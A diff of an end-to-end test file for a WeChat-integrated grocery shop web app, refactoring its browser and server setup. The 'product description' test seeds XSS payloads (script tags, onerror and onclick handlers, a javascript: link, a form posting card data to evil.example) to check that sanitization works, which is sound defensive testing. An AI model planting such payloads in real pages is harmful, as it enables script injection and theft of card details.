@@ -3,19 +3,17 @@
 // hot keywords), product detail (spec sheet, limits, add to cart as a guest then logged in, the badge),
 // the shop page, sharing outside WeChat and the share card in WeChat with a clean link that a friend
 // opens; the home's first requests in parallel with the session; screenshots and axe on every screen.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Browser, Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
 import { DEMO_RESIDENT } from '../../mock/seed/users';
 import { parseBuyLines } from '../../src/rules/buy-lines';
-import type { RunningServer } from '../../mock/server';
 import {
   axeViolations,
   bridgeCalls,
   desktopViewport,
-  releaseBrowser,
-  workerBrowser,
   openPage,
   screenshot,
+  appAndBrowser,
   startApp,
   dialogShown,
 } from './harness';
@@ -24,15 +22,7 @@ import { skipStartScreen, submitLogin } from './helpers';
 /** Requests to hosts other than the app's are blocked by the harness on purpose (no network here). */
 const realErrors = (errors: string[]) => errors.filter((e) => !e.includes('ERR_BLOCKED_BY_CLIENT'));
 
-let app: RunningServer;
-let browser: Browser;
-beforeAll(async () => {
-  [app, browser] = await Promise.all([startApp(), workerBrowser()]);
-});
-afterAll(async () => {
-  await releaseBrowser(browser);
-  await app?.close();
-});
+const e2e = appAndBrowser();
 
 const cards = (page: Page) => page.getByTestId('product-card');
 /** Paths of the backend calls a page made (goods lists and the rest). */
@@ -48,13 +38,13 @@ function recordCalls(page: Page): string[] {
 describe('the home tab', () => {
   it('chooses my nearest community, changes it, filters by area, loads more and keeps my place after a product', async () => {
     // Near 古北国际花园 (Shanghai, Changning).
-    const { page, context, errors } = await openPage(browser, app.url, {
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, {
       agent: 'androidChrome',
       geolocation: { latitude: 31.2012, longitude: 121.4021 },
     });
     try {
       const calls = recordCalls(page);
-      await page.goto(`${app.url}/#/pages/tabbar/home`);
+      await page.goto(`${e2e.server.url}/#/pages/tabbar/home`);
       await skipStartScreen(page);
       await expect.poll(() => page.getByTestId('community-button').textContent()).toContain('古北国际花园');
       expect(JSON.parse((await page.evaluate(() => localStorage.getItem('qihuo_community'))) ?? 'null')).toMatchObject({
@@ -151,10 +141,10 @@ describe('the home tab', () => {
 
 describe('the home goods when the server fails', () => {
   it('shows the error in place with a retry that loads the goods', async () => {
-    app.mock.setFaults([{ match: '/appMall/good/list', kind: 'http500', times: 1 }]);
-    const { page, context } = await openPage(browser, app.url, { agent: 'androidChrome' });
+    e2e.server.mock.setFaults([{ match: '/appMall/good/list', kind: 'http500', times: 1 }]);
+    const { page, context } = await openPage(e2e.browser, e2e.server.url, { agent: 'androidChrome' });
     try {
-      await page.goto(`${app.url}/#/pages/tabbar/home`);
+      await page.goto(`${e2e.server.url}/#/pages/tabbar/home`);
       await skipStartScreen(page);
       const failed = page.getByTestId('error-state');
       await failed.waitFor();
@@ -165,7 +155,7 @@ describe('the home goods when the server fails', () => {
       await failed.getByRole('button', { name: '重试' }).click();
       await expect.poll(() => cards(page).count()).toBe(10);
     } finally {
-      app.mock.setFaults([]);
+      e2e.server.mock.setFaults([]);
       await context.close();
     }
   });
@@ -173,9 +163,12 @@ describe('the home goods when the server fails', () => {
 
 describe('search, product and cart', () => {
   it('searches with records and hot keywords, opens a product, chooses a spec within the limit, logs in and adds to the cart', async () => {
-    const { page, context, errors } = await openPage(browser, app.url, { agent: 'iosSafari', geolocation: 'denied' });
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, {
+      agent: 'iosSafari',
+      geolocation: 'denied',
+    });
     try {
-      await page.goto(`${app.url}/#/pages/tabbar/home`);
+      await page.goto(`${e2e.server.url}/#/pages/tabbar/home`);
       await skipStartScreen(page);
       await page.getByTestId('home-search').click();
       await page.waitForURL(/\/pages\/search\/index$/);
@@ -244,7 +237,7 @@ describe('search, product and cart', () => {
       );
       expect(await page.getByTestId('product-stock').textContent()).toContain('每人限购 3 件');
       // The stock said is the chosen (default) spec's, as the spec sheet says, not the product's total.
-      const orange = app.mock.store.catalogue.products.find((p) => p.code === 'P001')!;
+      const orange = e2e.server.mock.store.catalogue.products.find((p) => p.code === 'P001')!;
       expect(orange.specList[0]!.stock).not.toBe(orange.stock);
       expect(await page.getByTestId('product-stock').textContent()).toContain(`库存 ${orange.specList[0]!.stock} 件`);
       // The description is rich text, sanitized.
@@ -272,7 +265,7 @@ describe('search, product and cart', () => {
       const badge = page.getByTestId('product-cart-badge');
       // The badge counts the lines that can be bought in the demo resident's seeded cart: its five lines but a
       // sold-out and a delisted one (one count everywhere, of lines, not pieces).
-      expect(app.mock.store.carts.get(DEMO_RESIDENT.userCode)!.length).toBe(5);
+      expect(e2e.server.mock.store.carts.get(DEMO_RESIDENT.userCode)!.length).toBe(5);
       const seeded = 3;
       await expect.poll(() => badge.textContent()).toBe(String(seeded));
 
@@ -296,7 +289,7 @@ describe('search, product and cart', () => {
       expect(await axeViolations(page)).toEqual([]);
       // The limit counts the good's other lines in the cart too (the seeded cart holds 2 of another spec):
       // the backend refuses, the person reads why, and the sheet stays as it was.
-      const inCart = app.mock.store.carts
+      const inCart = e2e.server.mock.store.carts
         .get(DEMO_RESIDENT.userCode)!
         .filter((l) => l.goodCode === 'P001')
         .reduce((n, l) => n + l.num, 0);
@@ -346,7 +339,7 @@ describe('search, product and cart', () => {
       await page.getByRole('button', { name: '提交订单' }).waitFor();
 
       // An attribute chosen in the sheet (舟山带鱼's 处理方式) goes with the line into the cart.
-      await page.goto(`${app.url}/#/pages/product/detail?code=P103`);
+      await page.goto(`${e2e.server.url}/#/pages/product/detail?code=P103`);
       await page.locator('.product-title').filter({ hasText: '舟山带鱼' }).waitFor();
       await page.getByRole('button', { name: '加入购物车' }).click();
       await sheet.waitFor();
@@ -356,7 +349,7 @@ describe('search, product and cart', () => {
       // The sheet closes once the cart has the line (the first add's toast may still show: it is not this one's sign).
       await sheet.waitFor({ state: 'hidden' });
       await page.getByText('已加入购物车').waitFor();
-      const fishLine = app.mock.store.carts.get(DEMO_RESIDENT.userCode)!.find((l) => l.goodCode === 'P103')!;
+      const fishLine = e2e.server.mock.store.carts.get(DEMO_RESIDENT.userCode)!.find((l) => l.goodCode === 'P103')!;
       expect(fishLine.attrs).toEqual([{ name: '处理方式', value: '切块' }]);
       await page.getByRole('link', { name: /^购物车/ }).click();
       await page
@@ -372,7 +365,7 @@ describe('search, product and cart', () => {
 
 describe('sharing a product', () => {
   it('outside WeChat shares a clean link through the Web Share API, or copies it', async () => {
-    const { page, context, errors } = await openPage(browser, app.url, { agent: 'androidChrome' });
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, { agent: 'androidChrome' });
     try {
       await context.addInitScript(() => {
         const shared: unknown[] = [];
@@ -383,7 +376,7 @@ describe('sharing a product', () => {
         });
       });
       // Whatever the page's own address carries, the shared link carries only the product.
-      await page.goto(`${app.url}/?token=tk_leak&openid=o_leak#/pages/product/detail?code=P002`);
+      await page.goto(`${e2e.server.url}/?token=tk_leak&openid=o_leak#/pages/product/detail?code=P002`);
       await page.locator('.product-title').waitFor();
       await page.getByRole('button', { name: '分享' }).click();
       await page.getByRole('button', { name: '分享给朋友' }).click();
@@ -393,7 +386,7 @@ describe('sharing a product', () => {
       const [data] = await page.evaluate(
         () => (window as unknown as { __shared: { title: string; text: string; url: string }[] }).__shared,
       );
-      expect(data!.url).toBe(`${app.url}/#/pages/product/detail?code=P002`);
+      expect(data!.url).toBe(`${e2e.server.url}/#/pages/product/detail?code=P002`);
       expect(data!.title).toBe(await page.locator('.product-title').textContent());
       expect(data!.text).toMatch(/^¥\d+\.\d\d( 起)? · 已售 \d+ · .+$/);
       expect(realErrors(errors)).toEqual([]);
@@ -402,19 +395,19 @@ describe('sharing a product', () => {
     }
 
     // Without a share sheet the link is copied.
-    const copy = await openPage(browser, app.url, { agent: 'androidChrome' });
+    const copy = await openPage(e2e.browser, e2e.server.url, { agent: 'androidChrome' });
     try {
-      await copy.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: app.url });
+      await copy.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: e2e.server.url });
       await copy.context.addInitScript(() => {
         Object.defineProperty(Navigator.prototype, 'share', { value: undefined, configurable: true });
       });
-      await copy.page.goto(`${app.url}/#/pages/product/detail?code=P002`);
+      await copy.page.goto(`${e2e.server.url}/#/pages/product/detail?code=P002`);
       await copy.page.locator('.product-title').waitFor();
       await copy.page.getByRole('button', { name: '分享' }).click();
       await copy.page.getByRole('button', { name: '分享给朋友' }).click();
       await copy.page.getByText('链接已复制，快去分享给朋友吧').waitFor();
       expect(await copy.page.evaluate(() => navigator.clipboard.readText())).toBe(
-        `${app.url}/#/pages/product/detail?code=P002`,
+        `${e2e.server.url}/#/pages/product/detail?code=P002`,
       );
     } finally {
       await copy.context.close();
@@ -422,11 +415,14 @@ describe('sharing a product', () => {
   });
 
   it('in WeChat sets the share card (title, price, cover, clean link), and a friend opening the link lands on the product', async () => {
-    const { page, context, errors } = await openPage(browser, app.url, { agent: 'wechatAndroid', bridge: true });
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, {
+      agent: 'wechatAndroid',
+      bridge: true,
+    });
     let link: string;
     let title: string;
     try {
-      await page.goto(`${app.url}/#/pages/product/detail?code=P002`);
+      await page.goto(`${e2e.server.url}/#/pages/product/detail?code=P002`);
       // Through the (mock) WeChat authorize page and back: the code and state are gone from the address.
       await page.locator('.product-title').waitFor({ timeout: 20_000 });
       expect(new URL(page.url()).search).toBe('');
@@ -437,9 +433,9 @@ describe('sharing a product', () => {
       const card = (await shareCall('updateAppMessageShareData'))!;
       expect(card.title).toBe(title);
       expect(card.desc).toMatch(/^¥\d+\.\d\d( 起)? · 已售 \d+ · .+$/);
-      expect(card.imgUrl).toBe(`${app.url}/mock-assets/product-2.png`);
+      expect(card.imgUrl).toBe(`${e2e.server.url}/mock-assets/product-2.png`);
       link = card.link!;
-      expect(link).toBe(`${app.url}/#/pages/product/detail?code=P002`);
+      expect(link).toBe(`${e2e.server.url}/#/pages/product/detail?code=P002`);
       expect(link).not.toMatch(/code=(?!P002)|state=|token|openid/);
       expect(await shareCall('updateTimelineShareData')).toMatchObject({ title, link });
       // The share button explains where WeChat's share is.
@@ -452,7 +448,7 @@ describe('sharing a product', () => {
       await context.close();
     }
 
-    const friend = await openPage(browser, app.url, { agent: 'wechatIos', bridge: true });
+    const friend = await openPage(e2e.browser, e2e.server.url, { agent: 'wechatIos', bridge: true });
     try {
       await friend.page.goto(link);
       await friend.page.locator('.product-title').filter({ hasText: title }).waitFor({ timeout: 20_000 });
@@ -465,10 +461,10 @@ describe('sharing a product', () => {
 
 describe('the shop page', () => {
   it('shows the shop with its tags and address, and its goods to the end', async () => {
-    const { page, context, errors } = await openPage(browser, app.url, { agent: 'androidChrome' });
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, { agent: 'androidChrome' });
     try {
       // A shop of the guest's station's city (Shanghai): a shop elsewhere shows why it does not deliver instead.
-      await page.goto(`${app.url}/#/pages/product/detail?code=P005`);
+      await page.goto(`${e2e.server.url}/#/pages/product/detail?code=P005`);
       await page.locator('.product-title').waitFor();
       await page.getByRole('link', { name: /进店逛逛/ }).click();
       await page.waitForURL(/\/pages\/shop\/detail\?code=S005$/);
@@ -493,15 +489,15 @@ describe('the shop page', () => {
 describe('the product description', () => {
   it('is shown as rich text, sanitized: no script runs, no handler or style survives', async () => {
     // What a careless rich-text editor (or an attacker) may store as a description.
-    const product = app.mock.store.catalogue.products.find((p) => p.code === 'P005')!;
+    const product = e2e.server.mock.store.catalogue.products.find((p) => p.code === 'P005')!;
     product.details =
       '<p style="position:fixed;inset:0" onclick="window.__pwned=1">产地直采<script>window.__pwned=2</script></p>' +
       '<img src="/mock-assets/product-5.png" onerror="window.__pwned=3" width="400" height="400" alt="">' +
       '<img src="/nope.png" onerror="window.__pwned=4"><iframe src="/"></iframe><a href="javascript:window.__pwned=5">看看</a>' +
       '<form action="https://evil.example"><input name="card"></form><ul><li>坏果包赔</li></ul>';
-    const { page, context, errors } = await openPage(browser, app.url, { agent: 'androidChrome' });
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, { agent: 'androidChrome' });
     try {
-      await page.goto(`${app.url}/#/pages/product/detail?code=P005`);
+      await page.goto(`${e2e.server.url}/#/pages/product/detail?code=P005`);
       const details = page.locator('.product-details .qh-rich-text');
       await details.getByText('坏果包赔').waitFor();
       await details.locator('img').first().scrollIntoViewIfNeeded();
@@ -523,7 +519,7 @@ describe('the product description', () => {
 describe('start-up', () => {
   it('sends the home goods request while the WeChat session is still being made, not after it', async () => {
     const slow = await startApp({ latencyMs: 400 });
-    const { page, context } = await openPage(browser, slow.url, { agent: 'wechatAndroid', bridge: true });
+    const { page, context } = await openPage(e2e.browser, slow.url, { agent: 'wechatAndroid', bridge: true });
     try {
       const sent = new Map<string, number>();
       const answered = new Map<string, number>();
@@ -561,28 +557,28 @@ describe('start-up', () => {
 
 describe('at desktop width', () => {
   it('shows the home, search, product and shop in the phone-width column', async () => {
-    const { page, context, errors } = await openPage(browser, app.url, {
+    const { page, context, errors } = await openPage(e2e.browser, e2e.server.url, {
       agent: 'desktopChrome',
       viewport: desktopViewport,
     });
     try {
-      await page.goto(`${app.url}/#/pages/tabbar/home`);
+      await page.goto(`${e2e.server.url}/#/pages/tabbar/home`);
       await skipStartScreen(page);
       await expect.poll(() => cards(page).count()).toBe(10);
       await page.waitForLoadState('networkidle');
       await screenshot(page, 'shop-desktop-home');
       expect(await axeViolations(page)).toEqual([]);
-      await page.goto(`${app.url}/#/pages/search/index?keyword=${encodeURIComponent('草莓')}`);
+      await page.goto(`${e2e.server.url}/#/pages/search/index?keyword=${encodeURIComponent('草莓')}`);
       await expect.poll(() => page.getByRole('searchbox').inputValue()).toBe('草莓');
       await expect.poll(() => cards(page).first().textContent()).toContain('草莓');
       await screenshot(page, 'shop-desktop-search');
       expect(await axeViolations(page)).toEqual([]);
-      await page.goto(`${app.url}/#/pages/product/detail?code=P103`);
+      await page.goto(`${e2e.server.url}/#/pages/product/detail?code=P103`);
       await page.locator('.product-title').waitFor();
       await page.waitForLoadState('networkidle');
       await screenshot(page, 'shop-desktop-product');
       expect(await axeViolations(page)).toEqual([]);
-      await page.goto(`${app.url}/#/pages/shop/detail?code=S006`);
+      await page.goto(`${e2e.server.url}/#/pages/shop/detail?code=S006`);
       await expect.poll(() => cards(page).count()).toBe(5);
       await page.waitForLoadState('networkidle');
       await screenshot(page, 'shop-desktop-shop');
